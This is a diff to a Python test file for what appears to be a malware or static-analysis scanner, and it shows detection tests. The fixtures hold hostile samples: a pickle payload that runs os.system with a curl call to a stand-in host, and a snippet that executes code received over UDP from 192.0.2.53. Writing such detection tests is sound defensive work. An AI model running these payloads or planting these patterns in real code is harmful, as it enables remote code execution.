@@ -247,3 +247,14 @@ def test_a_clipboard_that_is_put_back_changed_is_swapped() -> None:
 def test_a_literal_pickle_is_read_as_a_file() -> None:
     found = seen("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'curl https://h.example/x'\\ntR.\")")
     assert any(b.startswith("code.eval pickle os.system @ pkg/__init__.py!/") for b in found)
+
+
+def test_a_datagram_that_is_run_came_from_the_network() -> None:
+    source = """
+        import socket
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
+            wire.sendto(b"x", ("192.0.2.53", 53))
+            exec(wire.recv(4096)[12:])
+    """
+    found = short(told(source))
+    assert {"code.flow network > execution", "net.connect 192.0.2.53:53"} <= found
